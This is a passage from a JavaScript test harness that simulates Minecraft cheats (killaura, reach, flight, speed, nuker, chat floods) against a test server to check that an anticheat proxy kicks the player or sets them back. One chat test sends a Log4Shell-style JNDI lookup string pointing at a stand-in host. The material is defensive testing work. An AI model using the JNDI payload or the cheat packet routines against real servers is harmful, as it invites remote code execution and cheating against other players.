      if (ctx.since('1.9')) bot._client.write('arm_animation', ctx.swing())
    }
    // A hit within reach, then the victim walks away and is hit again.
    await hit()
    result.control.push({ name: 'use_entity', params: wire(subset(ctx.useEntity(target, 1), ['target', 'mouse'])) })
    await sleep(500)
    const away = victim.entity.position.minus(bot.entity.position)
    await victim.look(away.norm() > 0.01 ? Math.atan2(-away.x, -away.z) : 0, 0, true)
    victim.setControlState('forward', true)
    await sleep(REACH_WALK_MS)
    victim.setControlState('forward', false)
    await sleep(500)
    const d = bot.entity.position.distanceTo(victim.entity.position)
    if (d < MIN_REACH_DISTANCE) throw new Error(`the victim is only ${d.toFixed(2)} blocks away`)
    ctx.note(`hit from ${d.toFixed(2)} blocks`)
    await hit()
    result.offending.push({ name: 'use_entity', params: wire(subset(ctx.useEntity(target, 1), ['target', 'mouse'])) })
    await sleep(TICK_MS * 2)
    harmless(ctx)
  },
  'combat.self_interact': async (ctx) => {
    harmless(ctx)
    ctx.offend('use_entity', ctx.useEntity(ctx.bot.entity.id, 1), ['target', 'mouse'])
  },
  'book.edit': async (ctx) => {
    harmless(ctx)
    const pages = Array.from({ length: BOOK_PAGES }, (_, i) => `page ${i}`)
    ctx.offend('edit_book', { hand: 0, pages, title: undefined }, ['pages'])
  },
  'channel.payload': async (ctx) => {
    // Data over max_bytes (32,767) already fails to decode (frame.size
    // kicks first), so the cheat breaks the 1.13+ rule instead.
    if (!ctx.since('1.13')) throw new Error('channel.payload: before 1.13 no rule is reachable at the default max_bytes')
    harmless(ctx)
    // Not an identifier: vanilla cannot decode the channel.
    ctx.offend('custom_payload', { channel: 'Not A Channel!', data: Buffer.from('x') }, ['channel'])
  },
  'channel.register': async (ctx) => {
    harmless(ctx)
    const names = Array.from({ length: REGISTER_CHANNELS }, (_, i) => `rg:c${i}`)
    const channel = ctx.since('1.13') ? 'minecraft:register' : 'REGISTER'
    ctx.offend('custom_payload', { channel, data: Buffer.from(names.join('\0')) }, ['channel', 'data'])
  },
  'chat.invalid': async (ctx) => {
    harmless(ctx)
    const [name, params] = ctx.chatPacket('bell\u0007here')
    ctx.offend(name, params, ['message'])
    harmless(ctx)
  },
  'chat.lookup_string': async (ctx) => {
    harmless(ctx)
    const [name, params] = ctx.chatPacket('${jndi:ldap://rustguard.invalid/a}') // eslint-disable-line no-template-curly-in-string
    ctx.offend(name, params, ['message'])
    harmless(ctx)
  },
  'chat.rate': async (ctx) => {
    const [name, params] = ctx.chatPacket('spam spam spam')
    await ctx.flood(name, params, CHAT_BURST, ['message'])
    await sleep(TICK_MS)
    harmless(ctx)
  },
  'sign.text': async (ctx) => {
    // From 1.9 a line over 384 chars fails to decode (frame.size kicks
    // first); 1.8 lines are JSON text, held to the same length by the check.
    if (ctx.since('1.9')) throw new Error('sign.text: only 1.8 lines reach the check')
    harmless(ctx)
    const line = JSON.stringify({ text: 'x'.repeat(SIGN_LINE) })
    ctx.offend('update_sign', { location: { x: 3, y: 5, z: 3 }, text1: line, text2: '""', text3: '""', text4: '""' }, ['location'])
  },
  'spam.command': async (ctx) => {
    // Four commands in one write: the check lets a burst of three through
    // (commands a stall delivered together), not a fourth, which written
    // on its own could reach a loaded edge a refill (50 ms) later.
    const name = ctx.commandName()
    await ctx.together(() => {
      for (let i = 1; i <= 4; i++) {
        const params = ctx.commandParams(`ping ${i}`)
        ctx.bot.chat(`/ping ${i}`)
        if (i <= 3) result.control.push({ name, params })
        else result.offending.push({ name, params })
      }
    })
    await sleep(TICK_MS)
    harmless(ctx)
  },
  'spam.tab': async (ctx) => {
    const params = ctx.tabComplete('/pi')
    await ctx.together(() => {
      ctx.control('tab_complete', params, ['text'])
      ctx.offend('tab_complete', params, ['text'])
    })
    await sleep(TICK_MS)
    harmless(ctx)
  },
  // Layer 6: movement without the world. Each sends offending moves from
  // the anchor until the kick (moveCheat).
  'movement.teleport': (ctx) => moveCheat(ctx, (a, i) => ({ x: a.x + TELEPORT_BLOCKS + i * MOVE_UNIQUE, y: a.y, z: a.z, onGround: true })),
  'movement.step': (ctx) => moveCheat(ctx, (a, i) => ({ x: a.x, y: a.y + STEP_BLOCKS + i * MOVE_UNIQUE, z: a.z, onGround: true })),
  'movement.nofall': (ctx) => moveCheat(ctx, (a, i) => ({ x: a.x, y: a.y - NOFALL_BLOCKS - i * MOVE_UNIQUE, z: a.z, onGround: true })),
  'movement.flight': (ctx) => moveCheat(ctx, (a, i) => ({ x: a.x, y: a.y + FLIGHT_BLOCKS + i * MOVE_UNIQUE, z: a.z, onGround: false })),
  'movement.speed': (ctx) => moveCheat(ctx, (a, i) => {
    // Away on even ticks, back to the anchor on odd ones: a speed hack on
    // a short track, never beyond the teleport bound.
    const hop = Math.floor(i / 2)
    const free = hop < SPEED_FREE_HOPS
    if (i % 2 === 1) return { x: a.x, y: a.y, z: a.z, onGround: true, control: !free, free }
    return { x: a.x + SPEED_BLOCKS, y: a.y, z: a.z + hop * MOVE_UNIQUE, onGround: true, free }
  }),

  // Layer 6: movement against the world (the edge's replica).
  'movement.prediction': async (ctx) => {
    await ctx.pausePhysics()
    const p = ctx.bot.entity.position
    let x = p.x
    let y = p.y
    const z = p.z
    const at = (onGround) => ({ x, y, z, yaw: PREDICT_YAW, pitch: 0, ...ctx.ground(onGround) })
    for (let i = 0; i < PREDICT_SETTLE_TICKS && !ctx.gone(); i++) {
      ctx.send('position_look', at(true))
      await sleep(TICK_MS)
    }
    let v = 0
    for (let i = 0; i < PREDICT_SPEED_TICKS && !ctx.gone(); i++) {
      v = v * 0.6 * 0.91 + 0.1 * 0.98
      x += v * PREDICT_SPEED_FACTOR
      ctx.offend('position_look', at(true), ['x', 'y', 'z'])
      await sleep(TICK_MS)
    }
    for (let i = 0; i < PREDICT_STOP_TICKS && !ctx.gone(); i++) {
      ctx.send('position_look', at(true))
      await sleep(TICK_MS)
    }
    for (const dy of PREDICT_JUMP) {
      y += dy
      ctx.send('position_look', at(false))
      await sleep(TICK_MS)
    }
    for (let i = 0; i < PREDICT_HOVER_TICKS && !ctx.gone(); i++) {
      ctx.offend('position_look', { ...at(false), z: z + i * MOVE_UNIQUE }, ['x', 'y', 'z'])
      await sleep(TICK_MS)
    }
  },
  // Layer 6: movement in the world (worldCheat). Each move is free (sent,
  // not reported: the check may not judge it yet), a control or
  // offending.
  'world.nofall': (ctx) => worldCheat(ctx, (f) => {
    // A 3 × 3 hole under the player: nothing under any footprint it has.
    const hole = []
    for (let dx = -1; dx <= 1; dx++) {
      for (let dz = -1; dz <= 1; dz++) hole.push([f.x + dx, f.y - 1, f.z + dz, 'air'])
    }
    return hole
  }, (a, i) => ({ x: a.x + (i + 1) * MOVE_UNIQUE, y: a.y, z: a.z, onGround: true, kind: 'offend' })),
  'world.jesus': (ctx) => worldCheat(ctx, (f) => {
    // A pool five long (along x) and three wide, a block deep, with the
    // player on its surface at one end: water sources (flying-squid has
    // no flow).
    const pool = []
    for (let dx = -1; dx <= 3; dx++) {
      for (let dz = -1; dz <= 1; dz++) pool.push([f.x + dx, f.y - 1, f.z + dz, 'water', { level: 0, legacy: 0 }])
    }
    return pool
  }, (a, i) => ({
    // Walking across it level with its top, not on the ground (a ground
    // claim would be world.nofall's), never falling: no world-free bound
    // judges a level hover.
    x: a.x + (i + 1) * WATER_WALK,
    y: a.y,
    z: a.z,
    onGround: false,
    kind: i + 1 < JESUS_TICKS ? 'free' : 'offend'
  })),
  'world.spider': (ctx) => worldCheat(ctx, (f) => {
    // A stone wall three wide and four high on the player's +x side.
    const wall = []
    for (let dy = 0; dy < 4; dy++) {
      for (let dz = -1; dz <= 1; dz++) wall.push([f.x + 1, f.y + dy, f.z + dz, 'stone'])
    }
    return wall
  }, (a, i) => ({ x: a.x, y: a.y + (i + 1) * SPIDER_RISE, z: a.z, onGround: false, kind: i < SPIDER_FREE ? 'free' : 'offend' })),
  'world.phase': (ctx) => worldCheat(ctx, (f) => {
    // A stone wall three wide and two high on the player's +x side.
    const wall = []
    for (let dy = 0; dy < 2; dy++) {
      for (let dz = -1; dz <= 1; dz++) wall.push([f.x + 1, f.y + dy, f.z + dz, 'stone'])
    }
    return wall
  }, (a, i) => ({ x: a.x + (i + 1) * PHASE_STEP, y: a.y, z: a.z, onGround: true, kind: i === 0 ? 'control' : 'offend' })),

  // Layer 6: interaction without the world.
  'interaction.dig_reach': async (ctx) => {
    harmless(ctx)
    const f = ctx.bot.entity.position.floored()
    for (let i = 0; i < INTERACT_MAX && !ctx.gone(); i++) {
      ctx.offend('block_dig', { status: 0, location: { x: f.x + REACH_BLOCKS + i, y: f.y + 1, z: f.z }, face: 1, sequence: i + 1 }, ['status', 'location'])
      await sleep(INTERACT_GAP_MS)
    }
  },
  'interaction.place_reach': async (ctx) => {
    harmless(ctx)
    const f = ctx.bot.entity.position.floored()
    for (let i = 0; i < INTERACT_MAX && !ctx.gone(); i++) {
      ctx.offend('block_place', ctx.place({ x: f.x + REACH_BLOCKS + i, y: f.y - 1, z: f.z }, 1, i + 1), ['location'])
      await sleep(INTERACT_GAP_MS)
    }
  },
  'interaction.place_face': async (ctx) => {
    harmless(ctx)
    // The top face of a block above the head: only seen from above it.
    const f = ctx.bot.entity.position.floored()
    for (let i = 0; i < INTERACT_MAX && !ctx.gone(); i++) {
      ctx.offend('block_place', ctx.place({ x: f.x + (i % 5) - 2, y: f.y + 3, z: f.z + Math.floor(i / 5) - 2 }, 1, i + 1), ['location'])
      await sleep(INTERACT_GAP_MS)
    }
  },
  'interaction.fast_break': async (ctx) => {
    harmless(ctx)
    // Breaks of the air around the head, all at once: a nuker.
    await ctx.burst(RATE_BURST, RATE_FREE, (at, i) => ['block_dig', { status: 2, location: at, face: 1, sequence: i + 1 }, ['status', 'location']], 1)
  },
  // Layer 6: the world.
  'world.fast_break': async (ctx) => {
    harmless(ctx)
    // Obsidian beside the feet, then a start and a finish at once: 188
    // ticks with a diamond pickaxe in vanilla, more than the fastest tool
    // the edge must assume (the hotbar is unknown) can do in the 20 ticks
    // a 1.9+ client may stay silent.
    const f = ctx.bot.entity.position.floored()
    const at = { x: f.x + 1, y: f.y, z: f.z }
    ctx.bot.chat(`/setblock ${at.x} ${at.y} ${at.z} obsidian`)
    // The block change reaches the edge's replica and the client; a probe
    // the client reads after it, once answered, tells the edge the client
    // has it (the check judges only blocks unchanged since then).
    const deadline = Date.now() + CHUNK_WAIT_MS
    while (ctx.bot.blockAt(new Vec3(at.x, at.y, at.z))?.name !== 'obsidian') {
      if (Date.now() > deadline) throw new Error(`no obsidian at ${at.x},${at.y},${at.z} after /setblock`)
      await sleep(TICK_MS)
    }
    const kind = ctx.bot.supportFeature('transactionPacketExists') ? 'transaction' : 'ping'
    await lib.within(new Promise((resolve) => ctx.bot._client.once(kind, resolve)), KICK_WAIT_MS, 'an edge probe after the obsidian')
    await sleep(FAST_BREAK_SETTLE_MS)
    ctx.control('block_dig', { status: 0, location: at, face: 1, sequence: 1 }, ['status', 'location'])
    ctx.offend('block_dig', { status: 2, location: at, face: 1, sequence: 2 }, ['status', 'location'])
    await sleep(INTERACT_GAP_MS)
    harmless(ctx)
  },
  'interaction.fast_place': async (ctx) => {
    harmless(ctx)
    // Placements on the ground around the player, all at once: fast-place.
    await ctx.burst(RATE_BURST, RATE_FREE, (at, i) => ['block_place', ctx.place(at, 1, i + 1), ['location']], -1)
  },

  'inventory.unknown_window': async (ctx) => {
    const click = (windowId, slot) => ctx.since('1.17')
      ? { windowId, stateId: 0, slot, mouseButton: 0, mode: 0, changedSlots: [], cursorItem: ctx.item(null) }
      : { windowId, slot, mouseButton: 0, action: slot, mode: 0, item: ctx.item(null) }
    // A click in the player's own inventory (always open), then a click and
    // a close for a window the server never opened.
    ctx.control('window_click', click(0, 20), ['windowId', 'slot'])
    await sleep(TICK_MS)
    ctx.offend('window_click', click(UNKNOWN_WINDOW, 21), ['windowId', 'slot'])
    ctx.offend('close_window', { windowId: UNKNOWN_WINDOW })
    await sleep(TICK_MS)
    ctx.control('window_click', click(0, 22), ['windowId', 'slot'])
    harmless(ctx)
  },

  'combat.multi_target': async (ctx) => {
    await ctx.pausePhysics()
    // Killaura: the victim and another entity in one tick, right after a
    // tick packet, with the swing vanilla sends (before the attack on 1.8,
    // after it since). The other entity's id is one flying-squid never
    // gave: the check counts distinct ids, and the backend never sees it.
    const target = ctx.victim.entity.id
    const other = target + 1000
    const p = ctx.bot.entity.position
    const tick = () => ctx.send('position', { x: p.x, y: p.y, z: p.z, ...ctx.ground() })
    const attack = (id, offend) => {
      if (!ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
      if (offend) ctx.offend('use_entity', ctx.useEntity(id, 1), ['target', 'mouse'])
      else ctx.send('use_entity', ctx.useEntity(id, 1))
      if (ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
    }
    // From 1.9 the check needs the ticks visible: a movement packet every
    // tick (a player walking or turning), as here.
    for (let r = 0; r < MULTI_ROUNDS && !ctx.gone(); r++) {
      for (let t = 1; t < ROUND_TICKS; t++) {
        tick()
        await sleep(TICK_MS)
      }
      tick()
      attack(target, false)
      attack(other, true)
      await sleep(TICK_MS)
    }
  },

  'chat.flood': async (ctx) => {
    harmless(ctx)
    for (let i = 1; i <= CHAT_FLOOD && !ctx.gone(); i++) {
      const [name, params] = ctx.chatPacket(`flood line ${i}`)
      if (i <= CHAT_FLOOD_CONTROLS) ctx.control(name, params, ['message'])
      else if (i >= CHAT_FLOOD_OFFENDING) ctx.offend(name, params, ['message'])
      else ctx.send(name, params)
    }
  },

  // Experimental checks (the suite turns each on for its row).
  'badpackets.sequence': async (ctx) => {
    harmless(ctx)
    ctx.control('use_item', { hand: 0, sequence: 5, rotation: { x: 0, y: 0 } }, ['sequence'])
    await sleep(TICK_MS)
    // The next prediction must be 6.
    ctx.offend('use_item', { hand: 0, sequence: 9, rotation: { x: 0, y: 0 } }, ['sequence'])
    harmless(ctx)
  },
  'movement.teleport_ignored': async (ctx) => {
    // Ignore the server's teleports (no confirmation, no position answer)
    // while answering the edge's probes as usual.
    ctx.bot._client.removeAllListeners('position')
    ctx.victim.setControlState('jump', true)
    ctx.bot.chat('/tp ~ ~0.0 ~1.0')
    await sleep(SETTLE_MS)
  },
  'combat.cps': async (ctx) => {
    // Arm swings well above 20 a second, not digging.
    let sent = 0
    for (; sent < CPS_SWINGS && !ctx.gone(); sent++) {
      ctx.send('arm_animation', ctx.swing())
      await sleep(1000 / CPS_RATE)
    }
    result.floods.push({ name: 'arm_animation', params: wire(ctx.swing()), sent })
  },
  'combat.behind': async (ctx) => {
    await ctx.pausePhysics()
    const target = ctx.victim.entity.id
    const p = ctx.bot.entity.position.clone()
    // Vanilla yaw (degrees) whose look vector (−sin yaw, cos yaw) points
    // along (x, z).
    const yawAlong = (x, z) => Math.atan2(-x, z) * 180 / Math.PI
    const tick = (yaw) => ctx.send('position_look', { x: p.x, y: p.y, z: p.z, yaw, pitch: 0, ...ctx.ground() })
    const hit = () => {
      if (!ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
      ctx.offend('use_entity', ctx.useEntity(target, 1), ['target', 'mouse'])
      if (ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
    }
    const victimAt = () => {
      const v = ctx.victim.entity.position
      return { x: v.x - p.x, z: v.z - p.z }
    }
    // Facing the victim for a few ticks (no honest hit first: its
    // knockback would send the victim sliding, and the check rightly
    // judges against every place the client may see it at; the fight of
    // the false-positive suite shows honest hits pass).
    const rel = victimAt()
    for (let t = 0; t < BEHIND_TICKS; t++) {
      tick(yawAlong(rel.x, rel.z))
      await sleep(TICK_MS)
    }
    // Walk straight away from the victim, facing the way it walks.
    const d = Math.hypot(rel.x, rel.z)
    if (d < 0.1) throw new Error(`the victim stands on the cheater (${d.toFixed(2)} blocks)`)
    const dx = -rel.x / d
    const dz = -rel.z / d
    const away = yawAlong(dx, dz)
    let steps = 0
    const gap = ctx.since('1.20.2') ? BEHIND_GAP_TYPED : BEHIND_GAP
    while (Math.hypot(victimAt().x, victimAt().z) < gap && steps < BEHIND_MAX_STEPS && !ctx.gone()) {
      p.x += dx * BEHIND_STEP
      p.z += dz * BEHIND_STEP
      tick(away)
      steps++
      await sleep(TICK_MS)
    }
    // A second standing still first: the edge judges against every place
    // the client may still see the victim at until it has answered the
    // probes sent after the victim's last move (bringVictim's teleports).
    for (let t = 0; t < BEHIND_SETTLE_TICKS && !ctx.gone(); t++) {
      tick(away)
      await sleep(TICK_MS)
    }
    ctx.note(`hitting from ${Math.hypot(victimAt().x, victimAt().z).toFixed(2)} blocks behind`)
    // Killaura: hits with the back to the victim, the look steady.
    for (let i = 0; i < BEHIND_HITS && !ctx.gone(); i++) {
      for (let t = 0; t < BEHIND_TICKS; t++) {
        tick(away)
        await sleep(TICK_MS)
      }
      hit()
    }
  },
  'combat.hitbox': async (ctx) => {
    await ctx.pausePhysics()
    const target = ctx.victim.entity.id
    const p = ctx.bot.entity.position
    // Looking straight up, before and after the hit, at a victim standing
    // beside the cheater: no look in between meets its box.
    const look = { x: p.x, y: p.y, z: p.z, yaw: 0, pitch: -90, ...ctx.ground() }
    for (let i = 0; i < HITBOX_HITS; i++) {
      ctx.send('position_look', look)
      await sleep(TICK_MS)
      if (!ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
      ctx.offend('use_entity', ctx.useEntity(target, 1), ['target', 'mouse'])
      if (ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
      ctx.send('position_look', look)
      await sleep(HITBOX_GAP_MS)
    }
  },
  'chat.blank_tab': async (ctx) => {
    harmless(ctx)
    ctx.offend('tab_complete', ctx.tabComplete('/'), ['text'])
    harmless(ctx)
  },
  'spam.tab_length': async (ctx) => {
    harmless(ctx)
    ctx.offend('tab_complete', ctx.tabComplete('/say ' + 'a'.repeat(TAB_TEXT)), ['text'])
    harmless(ctx)
  }
}

// moveCheat stops mineflayer's movement, reports the anchor (where the
// player stands, the last position the backend saw) as a control, then
// sends move(anchor, i) once a tick until the kick or MOVE_TICKS_MAX: each
// an offending position, or with control set a legal one (reported), or
// with free set one the bound may or may not pass (not reported).
async function moveCheat (ctx, move) {
  await ctx.pausePhysics()
  const p = ctx.bot.entity.position
  const a = { x: p.x, y: p.y, z: p.z }
  ctx.control('position', { ...a, ...ctx.ground() }, ['x', 'y', 'z'])
  await sleep(TICK_MS)
  for (let i = 0; i < MOVE_TICKS_MAX && !ctx.gone(); i++) {
    const m = move(a, i)
    const params = { x: m.x, y: m.y, z: m.z, ...ctx.ground(m.onGround) }
    if (m.control) ctx.control('position', params, ['x', 'y', 'z'])
    else if (m.free) ctx.send('position', params)
    else ctx.offend('position', params, ['x', 'y', 'z'])
    await sleep(TICK_MS)
  }
}

// worldCheat runs a world check's cheat: stops mineflayer's movement, steps
// to the middle of the block (the anchor, a control), builds build(floor)
// with /setblock, waits for the blocks to settle, then sends
// move(anchor, i) once a tick until the edge's setback arrives or
// WORLD_MOVES_MAX: kind 'offend' (reported, must not reach the backend),
// 'control' (reported, must) or 'free' (not reported). It answers the
// setback and sends a control after it.
async function worldCheat (ctx, build, move) {
  const bot = ctx.bot
  await ctx.pausePhysics()
  const p = bot.entity.position
  const f = p.floored()
  const a = { x: f.x + 0.5, y: p.y, z: f.z + 0.5 }
  // To the middle of the block on the ground, a slow walk.
  const cur = { x: p.x, z: p.z }
  for (let d = Math.hypot(a.x - cur.x, a.z - cur.z); d > WORLD_STEP; d = Math.hypot(a.x - cur.x, a.z - cur.z)) {
    cur.x += (a.x - cur.x) * WORLD_STEP / d
    cur.z += (a.z - cur.z) * WORLD_STEP / d
    ctx.send('position', { x: cur.x, y: a.y, z: cur.z, ...ctx.ground() })
    await sleep(TICK_MS)
  }
  // The last step: the only position packet at the anchor.
  ctx.control('position', { ...a, ...ctx.ground() }, ['x', 'y', 'z'])
  await sleep(TICK_MS)

  stage = 'build'
  const blocks = build(f)
  for (const [x, y, z, name, props] of blocks) {
    bot.chat(`/setblock ${x} ${y} ${z} ${name} ${blockData(bot, name, props)}`)
    await sleep(WORLD_BUILD_GAP_MS)
  }
  const deadline = Date.now() + CHUNK_WAIT_MS
  for (const [x, y, z, name] of blocks) {
    while (bot.blockAt(new Vec3(x, y, z))?.name !== name) {
      if (Date.now() > deadline) throw new Error(`${x},${y},${z} is ${bot.blockAt(new Vec3(x, y, z))?.name}, not ${name}, after /setblock`)
      await sleep(TICK_MS)
    }
  }
  await sleep(WORLD_SETTLE_MS)

  // The edge's setback: from 1.9 a teleport id of the edge's (negative:
  // the server's count up from 0); 1.8 has no id, and flying-squid sends
  // no teleport of its own here.
  stage = 'cheat'
  let setback = null
  const setbackSeen = new Promise((resolve) => {
    bot._client.on('position', (packet) => {
      if (setback !== null || (ctx.since('1.9') && !(packet.teleportId < 0))) return
      setback = packet
      if (ctx.since('1.9')) ctx.send('teleport_confirm', { teleportId: packet.teleportId })
      // The answer is the edge's to swallow: reported as offending, it
      // must not reach the backend either.
      ctx.offend('position_look', { x: packet.x, y: packet.y, z: packet.z, yaw: 0, pitch: 0, ...ctx.ground() }, ['x', 'y', 'z'])
      resolve()
    })
  })
  let sent = 0
  for (let i = 0; i < WORLD_MOVES_MAX && setback === null && !ctx.gone(); i++) {
    const m = move(a, i)
    const params = { x: m.x, y: m.y, z: m.z, ...ctx.ground(m.onGround) }
    if (m.kind === 'control') ctx.control('position', params, ['x', 'y', 'z'])
    else if (m.kind === 'free') ctx.send('position', params)
    else ctx.offend('position', params, ['x', 'y', 'z'])
    sent++
    await sleep(TICK_MS)
  }
  await within(setbackSeen, SETBACK_WAIT_MS, 'the setback').catch(() => {})
  if (setback === null) {
    ctx.note(`no setback after ${sent} moves`)
    return
  }
  ctx.note(`set back to ${setback.x.toFixed(3)},${setback.y.toFixed(3)},${setback.z.toFixed(3)} after ${sent} moves`)
  await sleep(TICK_MS)
  harmless(ctx)
}

// bringVictim moves the victim next to the cheater (flying-squid spawns
// players up to tens of blocks apart) with /tp steps of at most TP_STEP
// blocks: a longer teleport makes flying-squid 1.12.0 send the cheater an
// entity_teleport it cannot serialise from 1.21.2 on, dropping the cheater.
async function bringVictim (bot, victim) {
  const clamp = (x) => Math.max(-TP_STEP, Math.min(TP_STEP, x)).toFixed(2)
  for (let i = 0; i < MAX_TP_STEPS; i++) {
    const d = bot.entity.position.offset(VICTIM_GAP, 0, 0).minus(victim.entity.position)
    if (Math.hypot(d.x, d.z) < VICTIM_SLACK) return
    const moved = within(new Promise((resolve) => victim.once('forcedMove', resolve)), CHUNK_WAIT_MS, 'the victim\'s teleport')
    // A coordinate without a decimal point gets +0.5 from flying-squid.
    victim.chat(`/tp ~${clamp(d.x)} ~0.0 ~${clamp(d.z)}`)
    await moved
    await sleep(TP_GAP_MS)
  }
  throw new Error(`the victim is still ${bot.entity.position.distanceTo(victim.entity.position).toFixed(2)} blocks away after ${MAX_TP_STEPS} teleports`)
}

// cheatsWithVictim need a second player to hit.
const cheatsWithVictim = new Set(['order.no_swing', 'combat.attack_rate', 'combat.multi_target', 'combat.behind', 'combat.interact_vector', 'combat.reach', 'combat.hitbox',
  'latency.probe_order', 'movement.teleport_ignored'])

// victimForTraffic are cheats whose victim only has to be seen moving (the
// edge probes while the server sends traffic), not brought close.
const victimForTraffic = new Set(['latency.probe_order', 'movement.teleport_ignored'])

async function main () {
  const cheat = cheats[opts.cheat]
  if (!cheat) lib.fail('usage', `--cheat: no cheat ${opts.cheat} (known: ${Object.keys(cheats).join(', ')})`, 2)
  let victim = null
  if (cheatsWithVictim.has(opts.cheat)) {
    victim = makeBot(opts.username + 'v')
    await victim.spawned
  }
  const bot = makeBot(opts.username)
  await bot.spawned
  const spawnedAt = Date.now()
  stage = 'settle'
  await within(bot.waitForChunksToLoad(), CHUNK_WAIT_MS, 'chunks').catch(() => {})
  await sleep(SETTLE_MS)
  if (victim !== null && !victimForTraffic.has(opts.cheat)) {
    stage = 'victim'
    await bringVictim(bot, victim)
    // The engine keeps every place the victim may be seen at until a probe
    // sent after the move is answered, and it probes only while the
    // server sends traffic: the victim jumps a little so that happens.
    victim.setControlState('jump', true)
    await sleep(SETTLE_MS)
    victim.setControlState('jump', false)
    await sleep(SETTLE_MS)
    // The combat checks exempt a player for a while after a teleport of
    // theirs (the spawn position is one): hit only after that.
    await sleep(spawnedAt + COMBAT_AFTER_SPAWN_MS - Date.now())
  }
  if (victim !== null && !bot.entities[victim.entity.id]) {
    await within(new Promise((resolve) => {
      const on = (e) => {
        if (e.id === victim.entity.id) {
          bot.removeListener('entitySpawn', on)
          resolve()
        }
      }
      bot.on('entitySpawn', on)
    }), CHUNK_WAIT_MS, 'the victim in sight')
  }
  if (bot.gone !== null) throw new Error(`before cheating: ${bot.gone}`)

  stage = 'cheat'
  await cheat(context(bot, victim))

  stage = 'after'
  if (opts.expect === 'kick') await within(bot.kickedPromise, KICK_WAIT_MS, 'kick').catch(() => {})
  else await Promise.race([bot.kickedPromise, sleep(AFTER_MS)])
  result.kicked = bot.kickedReason !== null
  result.kick_reason = bot.kickedReason ?? ''
  if (!result.kicked && bot.gone !== null) result.notes.push(`cheater gone without a kick: ${bot.gone}`)
  if (victim !== null && victim.gone !== null) result.notes.push(`victim gone: ${victim.gone}`)
  finish(0, result)
}

main().catch((err) => failWith(err && err.stack ? err.stack : err))
